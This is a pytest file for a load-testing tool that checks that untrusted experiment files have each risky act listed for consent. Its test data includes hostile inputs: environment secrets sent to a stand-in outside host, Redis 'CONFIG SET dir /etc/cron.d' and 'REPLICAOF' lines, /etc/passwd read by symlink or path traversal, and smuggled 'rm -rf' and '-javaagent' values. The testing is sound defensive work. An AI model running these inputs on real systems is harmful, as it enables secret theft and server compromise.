"""What a stranger's experiment would do here is listed: each way to start, to connect, to read and to send."""

from collections.abc import Callable
from pathlib import Path

import pytest
from tests.readable import is_readable, names

from loadstone.cli.init_command import write_experiment
from loadstone.experiment.action import PlannedAction
from loadstone.experiment.action import shown_variable as _of_variable
from loadstone.experiment.spec.built_in import FOLDER
from loadstone.experiment.spec.experiment import SubjectSpec
from loadstone.run.actions import planned_actions
from loadstone.run.prepare import requested_experiment, requested_plan
from loadstone.run.request import RunRequest
from loadstone.safety.errors import UserError
from loadstone.servers import registry
from loadstone.servers.server import program_fields

EXPERIMENT = """\
name: stranger
question: What does a stranger's file do?
factors:
  size:
    levels: [10 B, 20 B]
    values:
      10 B: {part: CANARY, option: password_env=CANARY, open: "{env:CANARY}"}
      20 B: {part: CANARY, option: password_env=CANARY, open: "{env:CANARY}"}
tables:
  - {name: t, title: T, vary: {size: [10 B, 20 B]}}
servers:
  redis: {kind: embedded}
workload:
  target: redis
  model: {kind: closed, users: 2}
  pool: {connections: 2}
  phases: {measure_s: 100 ms}
  documents: {payload_bytes: "${size}"}
  operations:
    - {name: set, commands: [{args: "SET {key} {value}", expect: ok}]}
"""
SUBJECT = """\
name: app
build: {commands: ["sh -c 'touch built'"], inputs: [source.txt], output: built}
run: {command: "sh -c 'touch started; exec sleep 9'"}
requires: {sh: "1"}
jvm_flags: ["-javaagent:theirs.jar"]
environment: {TOKEN: "${env:CANARY}"}
tables: {db: ../schema.sql}
"""
VALUE = "c4naryValue99"
OPERATIONS = '    - {name: set, commands: [{args: "SET {key} {value}", expect: ok}]}\n'
REQUESTS = "    - {name: get, requests: [{path: /, HOW}]}\n"
WEB = "subjects:\n  web: {url: 'http://outside.example'}\n"
Changes = dict[str, str]


def over_http(how: str = "expect: {status: 200}", subject: str = WEB) -> Changes:
    target = subject.split("\n")[1].split(":")[0].strip()
    return {
        OPERATIONS: REQUESTS.replace("HOW", how),
        "  target: redis\n": f"  target: {target}\n  protocol: http1\n",
        "workload:\n": f"{subject}workload:\n",
    }


def servers(more: str) -> Changes:
    return {"  redis: {kind: embedded}\n": f"  redis: {{kind: embedded}}\n  other: {more}\n"}


ActsOf = Callable[..., list[PlannedAction]]


@pytest.fixture
def acts(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> ActsOf:
    monkeypatch.setenv("CANARY", VALUE)
    folder = tmp_path / "theirs"
    folder.mkdir()
    (folder / "subject.yaml").write_text(SUBJECT)
    (folder / "source.txt").write_text("source")
    (tmp_path / "schema.sql").write_text("CREATE TABLE t (id INT);")
    (folder / "link.csv").symlink_to("/etc/passwd")

    def found(changes: Changes, **options: object) -> list[PlannedAction]:
        text = EXPERIMENT
        for old, new in changes.items():
            assert old in text
            text = text.replace(old, new)
        (folder / "x.yaml").write_text(text)
        wanted = RunRequest(experiment=str(folder / "x.yaml"), seed=1, **options)  # type: ignore[arg-type]
        experiment = requested_experiment(wanted)
        return planned_actions(experiment, requested_plan(experiment, wanted), wanted.secret_files)

    return found


APP = "subjects:\n  app: {manifest: subject.yaml}\n"
HERE = "subjects:\n  web: {url: 'http://127.0.0.1:8080'}\n"
OUTSIDE = "http://outside.example (subject web)"


@pytest.mark.fault(
    "an experiment starts, builds, connects or sends files",
    "`show` lists each act, the most dangerous first",
    area="foreign",
)
@pytest.mark.parametrize(
    ("changes", "line"),
    [
        (over_http(subject=APP), "starts sh -c 'touch started; exec sleep 9', with jvm_flags -javaagent:theirs.jar"),
        (over_http(subject=APP), "starts sh, to learn their versions (subject app)"),
        (over_http(subject=APP), "builds by sh -c 'touch built' (subject app"),
        (over_http(subject=APP), "sets for a program TOKEN=${env:CANARY} (subject app)"),
        (over_http(subject=APP), "sends the variable CANARY to the program of subject app"),
        (
            {**over_http(subject=APP), **servers("{kind: mariadb}"), "  other:": "  db:"},
            "sends to a server db: the SQL of ",
        ),
        (
            over_http(subject=APP.replace("yaml}", "yaml, environment: {A: '${env:CANARY}'}}")),
            "sets for a program TOKEN=${env:CANARY} A=${env:CANARY}",
        ),
        (
            over_http(subject="subjects:\n  app: {manifest: spring, environment: {JAVA_TOOL_OPTIONS: -javaagent:x}}\n"),
            "sets for a program JAVA_TOOL_OPTIONS=-javaagent:x (application spring, subject app)",
        ),
        (over_http(), f"connects to {OUTSIDE}"),
        (over_http("method: POST, body: x", HERE), "sends to a server web: POST /"),
        (over_http("method: DELETE", HERE), "sends to a server web: DELETE /"),
        (over_http("body: x", HERE), "sends to a server web: GET /"),
        (
            over_http("headers: {X-HTTP-Method-Override: DELETE}", HERE),
            "sends to a server web: GET / with X-HTTP-Method-Override",
        ),
        (
            over_http(subject="subjects:\n  app: {manifest: spring, environment: {DB_PASSWORD: 'a{b,c}'}}\n"),
            "sets for a program DB_PASSWORD=a{b,c} (application spring, subject app)",
        ),
        (
            over_http("headers: {X: 'a ${env:CANARY}'}"),
            "sends the variable CANARY to subject web (http://outside.example)",
        ),
        (over_http("headers: {X: '${env:${size.part}}'}"), "sends the variable CANARY to subject web"),
        (over_http("headers: {X: 'a $${size.open}'}"), "sends the variable CANARY to subject web"),
        (over_http("body: '${env:CANARY}', method: POST"), "sends the variable CANARY to subject web"),
        (
            over_http(subject="subjects:\n  web: {url: 'http://u:${env:CANARY}@outside.example'}\n"),
            "sends the variable CANARY to subject web (http://u:${env:CANARY}@outside.example)",
        ),
        (
            over_http(subject="subjects:\n  web: {url: 'http://${env:CANARY}.outside.example'}\n"),
            "connects to http://${env:CANARY}.outside.example",
        ),
        (
            servers("{kind: url, url: 'redis://u:${env:CANARY}@outside.example'}"),
            "sends the variable CANARY to server other",
        ),
        (
            servers("{kind: url, url: 'redis://outside.example?${size.option}'}"),
            "sends the variable CANARY to server other",
        ),
        (servers("{kind: url, url: 'redis://u:${env:CANARY}@localhost'}"), "sends the variable CANARY to server other"),
        (
            servers("{kind: url, url: 'unix:///tmp/theirs.sock?password_env=CANARY'}"),
            "sends the variable CANARY to server other (unix:///tmp/theirs.sock",
        ),
        (
            {**over_http(subject=HERE), "{path: /,": "{path: '/${env:CANARY}',"},
            "sends the variable CANARY to subject web (http://127.0.0.1:8080)",
        ),
        (
            {**over_http(subject=HERE), "  documents:": "  data: {path: link.csv}\n  documents:"},
            "link.csv (which is /etc/passwd), row by row, to subject web (http://127.0.0.1:8080)",
        ),
        (
            servers("{kind: url, url: 'redis://outside.example?password%5fenv=CANARY'}"),
            "sends the variable CANARY to server other",
        ),
        (
            servers("{kind: url, url: 'redis+sentinel://localhost,outside.example/main?sentinel_password_env=CANARY'}"),
            "sends the variable CANARY to server other (redis+sentinel://localhost,outside.example/main",
        ),
        (
            servers("{kind: url, url: 'redis://outside.example?cluster=yes'}"),
            "connects to redis://outside.example?cluster=yes (server other), and to the servers that it names",
        ),
        (
            servers("{kind: mariadb-url, url: 'mariadb://u:p4ss@outside.example/x'}"),
            "connects to mariadb://***@outside.example/x (server other)",
        ),
        (servers("{kind: process, binary: ./evil}"), "starts ./evil (binary of server other)"),
        (servers("{kind: process, json_module: /tmp/evil.so}"), "starts /tmp/evil.so (json_module of server other)"),
        (servers("{kind: mariadb, folder: ../evil}"), "starts ../evil (folder of server other)"),
        (servers("{kind: container, image: evil/redis}"), "runs the image evil/redis as server other"),
        (
            servers("{kind: embedded, settings: {enable-debug-command: 'yes'}}"),
            "sets on a server other: enable-debug-command: yes",
        ),
        (
            servers("{kind: mariadb, settings: {slow_query_log_file: /etc/profile}}"),
            "sets on a server other: slow_query_log_file: /etc/profile",
        ),
        (servers("{kind: postgresql, settings: {jit_provider: evil}}"), "sets on a server other: jit_provider: evil"),
        (servers("{kind: embedded, settings: {syslog-enabled: 'yes'}}"), "sets on a server other: syslog-enabled: yes"),
        (servers("{kind: postgresql, settings: {log_hostname: true}}"), "sets on a server other: log_hostname: True"),
        (servers("{kind: mariadb, settings: {log_bin: theirs}}"), "sets on a server other: log_bin: theirs"),
        (
            servers("{kind: mariadb, settings: {new_in_a_later_version: 1}}"),
            "sets on a server other: new_in_a_later_version: 1 (a setting that loadstone does not know)",
        ),
        (
            servers("{kind: container, image: redis, settings: {maxmemory-new: 1gb}}"),
            "sets on a server other: maxmemory-new: 1gb (a setting that loadstone does not know)",
        ),
        (
            {'"SET {key} {value}", expect: ok': '"NEWCOMMAND {key}"'},
            "sends to a server redis: NEWCOMMAND {key}",
        ),
        (
            {'"SET {key} {value}", expect: ok': '"RESTORE {key} 0 payload"'},
            "sends to a server redis: RESTORE {key} 0 payload",
        ),
        (
            {'"SET {key} {value}", expect: ok': '"MIGRATE outside.example 6379 {key} 0 100"'},
            "sends to a server redis: MIGRATE outside.example",
        ),
        (
            {'"SET {key} {value}", expect: ok': '"CONFIG SET dir /etc/cron.d"'},
            "sends to a server redis: CONFIG SET dir /etc/cron.d",
        ),
        (
            {'"SET {key} {value}", expect: ok': "\"EVAL 'return 1' 0\""},
            "sends to a server redis: EVAL 'return 1' 0",
        ),
        (
            {'"SET {key} {value}", expect: ok': '"DFLY LOAD /etc/passwd"'},
            "sends to a server redis: DFLY LOAD /etc/passwd",
        ),
        (
            {'"SET {key} {value}", expect: ok': '"RESTORE {key} 0 x"'},
            "sends to a server redis: RESTORE {key} 0 x",
        ),
        (
            {'"SET {key} {value}", expect: ok': '"GRAPH.QUERY {key} x"'},
            "sends to a server redis: GRAPH.QUERY {key} x",
        ),
        (
            {'"SET {key} {value}", expect: ok': '"REPLICAOF outside.example 6379"'},
            "sends to a server redis: REPLICAOF outside.example 6379",
        ),
        (
            {**over_http(), "  documents:": "  data: {path: link.csv}\n  documents:"},
            "link.csv (which is /etc/passwd), row by row, to subject web (http://outside.example)",
        ),
        (
            {**over_http(), "  documents:": "  data: {path: ../../../../../../../../etc/passwd}\n  documents:"},
            "/etc/passwd), row by row, to subject web (http://outside.example)",
        ),
    ],
)
def test_each_act_is_listed_and_asks(acts: ActsOf, changes: Changes, line: str) -> None:
    found = acts(changes)
    (named, *_) = [act for act in found if line in act.line] or [None]
    assert named is not None, [act.line for act in found]
    assert named.asks
    assert not named.typed
    assert VALUE not in "".join(act.line for act in found)


@pytest.mark.parametrize(
    ("changes", "line"),
    [
        ({}, "starts its own embedded as server redis"),
        (servers("{kind: url, url: 'unix:///run/redis.sock'}"), "connects to unix:///run/redis.sock"),
        (over_http("headers: {Accept: '*/*'}", HERE), "connects to http://127.0.0.1:8080"),
        ({'"SET {key} {value}", expect: ok': '"SORT {key} BY other*"'}, "starts its own embedded"),
        ({'"SET {key} {value}", expect: ok': '"SCAN 0"'}, "starts its own embedded"),
        (
            servers("{kind: process, settings: {maxmemory: 100mb, save: '60 1000', appendonly: 'yes'}}"),
            "starts its own process as server other",
        ),
        (servers("{kind: process, settings: {save: '60 1000'}}"), "configures other: save: 60 1000"),
        (servers("{kind: memcached, settings: {threads: 2}}"), "configures other: threads: 2"),
        (servers("{kind: mariadb, settings: {log_bin: true}}"), "configures other: log_bin: True"),
        (
            servers("{kind: postgresql, settings: {shared_buffers: 256MB, synchronous_commit: true}}"),
            "configures other: shared_buffers: 256MB",
        ),
        (
            over_http(subject="subjects:\n  app: {manifest: spring, environment: {SUBJECT_STORE: redis-json}}\n"),
            "starts its own application spring",
        ),
        ({'"SET {key} {value}", expect: ok': '"HSET other{key} f {value}"'}, "starts its own embedded"),
    ],
)
def test_what_stays_on_this_machine_does_not_ask(acts: ActsOf, changes: Changes, line: str) -> None:
    found = acts(changes)
    assert [act for act in found if line in act.line]
    assert not [act.line for act in found if act.asks]


@pytest.mark.fault("an experiment abbreviates a setting of MariaDB (`skip_grant`), or writes a prefix before it")
@pytest.mark.parametrize(
    "server",
    [
        "{kind: mariadb, settings: {skip_grant: 'ON'}}",
        "{kind: mariadb, settings: {loose-skip-grant: 'ON'}}",
        "{kind: mariadb, settings: {enable_skip_grant_tables: 'ON'}}",
        "{kind: mariadb, settings: {maximum-secure-file: 1}}",
        "{kind: mariadb, settings: {feedback: 'ON'}}",
        "{kind: mariadb, settings: {sql_mode: 'ANSI --rpm'}}",
        "{kind: container, image: mariadb, software: mariadb, settings: {skip_grant: 'ON'}}",
        "{kind: embedded, settings: {apendonly: 'yes'}}",
        "{kind: cluster, settings: {LoadModule: x.so}}",
        "{kind: postgresql, settings: {Shared_Preload_Libraries: x}}",
        "{kind: postgresql, settings: {auto_explain.log_analyze: true}}",
    ],
)
def test_what_no_list_allows_is_refused_before_anything_is_asked(acts: ActsOf, server: str) -> None:
    with pytest.raises(UserError, match=r"servers\.other(\.settings)?: "):
        acts(servers(server))


def test_a_setting_that_the_user_typed_is_their_own_word_unless_it_is_refused(acts: ActsOf) -> None:
    typed = ("servers.redis.settings.enable-debug-command=yes", "servers.redis.settings.hz=20")
    found = [act for act in acts({}, set=typed) if act.kind in ("sets on a server", "configures")]
    assert [(act.line, act.typed) for act in found] == [
        ("sets on a server redis: enable-debug-command: yes", True),
        ("configures redis: hz: 20", True),
    ]
    with pytest.raises(UserError, match=r"servers\.redis\.settings: 'loadmodule' is decided by loadstone"):
        acts({}, set=("servers.redis.settings.loadmodule=x.so",))


@pytest.mark.fault("an experiment starts, builds, connects or sends files")
def test_the_most_dangerous_comes_first_on_one_line_each(acts: ActsOf) -> None:
    hostile = servers('{kind: process, binary: "/bin/e\\e[2Jvil\\u202e\\n  connects to localhost"}')
    found = acts({**over_http(subject=APP), **hostile})
    assert [act.kind for act in found][:4] == ["starts", "starts", "starts", "builds"]
    assert str(found[0].what) == "/bin/e\\x1b[2Jvil\\u202e\\n  connects to localhost (binary of server other)"
    assert all(act.line.isprintable() for act in found)


@pytest.mark.fault("an experiment starts, builds, connects or sends files")
def test_a_value_that_was_filled_in_gives_way_to_its_name(acts: ActsOf, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CANARY", "zq")  # too short to be searched for in every text
    lines = [act.line for act in acts(servers("{kind: process, binary: '/opt/${env:CANARY}/redis'}"))]
    assert "starts /opt/${env:CANARY}/redis (binary of server other)" in lines


ATTACKS = [
    ("spring", "MANAGEMENT_SERVER_PORT", "18099"),
    ("spring", "MANAGEMENT_ENDPOINTS_WEB_EXPOSURE_INCLUDE", "env"),
    ("spring", "MANAGEMENT_ENDPOINT_ENV_SHOWVALUES", "always"),
    ("spring", "SERVER_ADDRESS", "0.0.0.0"),
    ("spring", "SPRING_MAIN_SOURCES", "x"),
    ("spring", "DEBUG", "true"),
    ("spring", "subject_store", "mariadb"),
    ("spring", "SUBJECT_STORE", "${env:CANARY}"),
    ("spring", "SUBJECT_STORE", "mariadb}.url:x"),
    ("spring", "SUBJECT_CACHELIFETIME", "24h,x"),
    ("spring", "SERVER_TOMCAT_THREADS_MAX", "{port}"),
    ("spring", "SERVER_TOMCAT_THREADS_MAX", "1\\n"),
    ("nest", "PM2_PUBLIC_KEY", "stranger"),
    ("nest", "KEYMETRICS_SECRET", "stranger"),
    ("nest", "SECRET_KEY", "stranger"),
    ("nest", "HOST", "localhost"),
    ("nest", "PORT", "80"),
    ("nest", "INSTANCES", "max"),
]


@pytest.mark.fault(
    "an experiment sets a variable of a built-in application that its manifest does not declare harmless",
    "a run asks about it and shows its value",
    area="foreign",
)
@pytest.mark.parametrize(("application", "name", "value"), ATTACKS)
def test_a_variable_that_no_manifest_declares_harmless_asks(
    acts: ActsOf, application: str, name: str, value: str
) -> None:
    found = acts(
        over_http(subject=f'subjects:\n  app: {{manifest: {application}, environment: {{{name}: "{value}"}}}}\n')
    )
    (line,) = [act.line for act in found if act.kind == "sets for a program" and act.asks]
    shown = "***" if name in ("KEYMETRICS_SECRET", "SECRET_KEY") else value
    assert line == f"sets for a program {name}={shown} (application {application}, subject app)"


@pytest.mark.parametrize("path", sorted(filter(is_readable, FOLDER.glob("*.yaml"))), ids=lambda path: path.stem)
def test_a_copy_of_a_study_asks_about_no_variable(path: Path, tmp_path: Path) -> None:
    """What the studies vary is declared: so may others."""
    copy = tmp_path / path.name
    copy.write_text(path.read_text())
    wanted = RunRequest(experiment=str(copy), seed=1)
    experiment = requested_experiment(wanted)
    found = [
        act
        for act in planned_actions(experiment, requested_plan(experiment, wanted))
        if act.kind == "sets for a program"
    ]
    assert bool(found) == any(subject.environment for subject in experiment.subjects.values())
    assert not [act.line for act in found if act.asks]


def test_each_field_of_a_subject_is_judged() -> None:
    """By `manifest` it may run code, by `url` connect, by `environment` both; by the others neither."""
    harmless = {"when", "replicas", "host", "limits", "warm_up"}
    assert set(SubjectSpec.model_fields) == {"manifest", "url", "environment"} | harmless


@pytest.mark.fault(
    "a manifest names variables of the user's environment", "a run asks about each, by its name", area="foreign"
)
def test_what_a_manifest_inherits_is_shown_and_asks(acts: ActsOf, tmp_path: Path) -> None:
    (tmp_path / "theirs" / "subject.yaml").write_text(
        SUBJECT.replace("output: built", "output: built, inherits: [NPM_TOKEN]").replace(
            "sleep 9'\"", "sleep 9'\", inherits: all"
        )
    )
    lines = {act.line: act.asks for act in acts(over_http(subject=APP)) if act.kind == "sends the variable"}
    assert lines["sends the variable NPM_TOKEN to the build of subject app"]
    assert lines["sends the variable * (the whole environment) to the program of subject app"]


def test_what_the_user_typed_is_their_own_word(acts: ActsOf) -> None:
    typed = acts({}, servers=("redis=redis://u:${env:CANARY}@outside.example",))
    assert {act.kind for act in typed if act.asks} == {"sends the variable", "connects to"}
    assert all(act.typed for act in typed if act.asks)
    theirs = acts(over_http("headers: {X: '${env:CANARY}'}"), subjects=("http://mine.example",))
    assert [act.line for act in theirs if act.asks and not act.typed] == [
        "sends to a server web: GET / with X",
        "sends the variable CANARY to subject web (http://mine.example)",
    ]


def test_each_field_of_a_servers_settings_is_looked_at_or_may_name_a_program() -> None:
    """A new one is asked about, until it is known to name no program and no file."""
    fields = {name for kind in registry.SERVERS.values() for name in kind.model_fields}
    assert set(program_fields(dict.fromkeys(fields))) == {"binary", "json_module", "folder"}
    assert program_fields({"new": "/bin/sh"}) == ["new"]


@pytest.mark.fault("built-in experiments and `init`", "no consent is needed", area="foreign")
@pytest.mark.parametrize("mode", [{}, {"quick": True}])
@pytest.mark.parametrize("name", [*names(), "made.yaml"])
def test_built_in_experiments_and_the_first_one_ask_nothing(
    name: str, mode: dict[str, bool], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    write_experiment(Path("made.yaml"))
    options = RunRequest(experiment=name, seed=1, **mode)  # type: ignore[arg-type]
    experiment = requested_experiment(options)
    found = planned_actions(experiment, requested_plan(experiment, options))
    assert found
    assert not [act.line for act in found if act.asks]


HIDES_A_HOST = [
    ("http://outside.example/@127.0.0.1:8080", "web"),
    ("http://u:p4ss@outside.example:000080/@127.0.0.1:8080", "web"),
    ("rediss://outside.example:6380/0?server_name=@127.0.0.1:6379", "other"),
    ("rediss://u:p4ss@outside.example/0?server_name=x:y@127.0.0.1", "other"),
]


@pytest.mark.fault(
    "an address of a stranger's experiment with an `@` behind its host", "the host that is connected to is shown",
    area="foreign",
)  # fmt: skip
@pytest.mark.parametrize(("url", "name"), HIDES_A_HOST)
def test_no_address_hides_its_host_as_a_login(acts: ActsOf, url: str, name: str) -> None:
    is_subject = name == "web"
    changes = over_http(subject=f"subjects:\n  web: {{url: '{url}'}}\n") if is_subject else {}
    found = acts(changes if is_subject else servers(f"{{kind: url, url: '{url}'}}"))
    (line,) = [act.line for act in found if act.kind == "connects to" and act.asks]
    shown = url.replace("u:p4ss@", "***@")
    assert line == f"connects to {shown} ({'subject' if is_subject else 'server'} {name})"


@pytest.mark.fault(
    "a variable whose value looks like a login, and holds options or commands", "all of it is shown", area="foreign"
)
@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("-Da=b:// -javaagent:/tmp/theirs.jar=@", None),
        ("-Dpassword= -javaagent:/tmp/theirs.jar", None),
        ('password="; rm -rf x"', None),
        ("http://;reboot;@x", None),
        ("-Dx=Bearer -javaagent:/tmp/theirs.jar", None),
        ("redis://u:p4ss@h/0?password=p4ss&db=1", "redis://***@h/0?password=***&db=1"),
        ("jdbc:mariadb://u:p4ss@h/x;token=abc", "jdbc:mariadb://***@h/x;token=***"),
    ],
)
def test_no_value_hides_its_code_as_a_login(value: str, shown: str | None) -> None:
    assert _of_variable("JAVA_TOOL_OPTIONS", value) == (shown or value)


@pytest.mark.fault(
    "a stranger's experiment puts a variable into a server's setting that a process list shows",
    "a run asks about the variable",
    area="foreign",
)
def test_a_variable_in_a_setting_asks(acts: ActsOf) -> None:
    found = acts(servers("{kind: postgresql, settings: {cluster_name: '${env:CANARY}'}}"))
    (line,) = [act.line for act in found if act.kind == "sends the variable" and act.asks]
    assert line == "sends the variable CANARY to server other, which it starts"
